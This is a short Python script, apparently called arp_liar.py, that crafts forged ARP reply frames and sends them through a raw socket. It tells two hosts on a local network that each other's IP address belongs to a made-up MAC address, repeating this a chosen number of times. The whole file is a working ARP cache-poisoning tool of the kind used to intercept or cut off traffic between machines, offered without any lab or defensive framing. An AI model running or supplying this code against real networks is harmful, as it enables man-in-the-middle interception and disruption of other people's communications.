"""Tells two hosts on a wire that each other's addresses are at a made up card: arp_liar.py DEVICE A A_MAC B B_MAC TIMES"""
import socket
import sys
import time

device, a, a_mac, b, b_mac, times = sys.argv[1:]
LIAR = bytes.fromhex("0242ac006666")


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def reply(sender, target, target_mac):
    head = mac(target_mac) + LIAR + bytes.fromhex("0806") + bytes.fromhex("0001080006040002")
    return head + LIAR + socket.inet_aton(sender) + mac(target_mac) + socket.inet_aton(target)


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((device, 0))
for _ in range(int(times)):
    wire.send(reply(b, a, a_mac))
    wire.send(reply(a, b, b_mac))
    time.sleep(0.2)
